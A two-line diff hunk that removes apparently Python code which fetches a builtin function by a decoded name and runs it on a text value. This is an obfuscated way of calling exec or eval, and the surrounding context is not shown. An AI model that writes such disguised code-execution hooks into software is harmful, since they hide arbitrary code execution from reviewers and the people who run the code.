@@ -1,2 +1,0 @@
-run = getattr(builtins, decode(name))
-run(text)
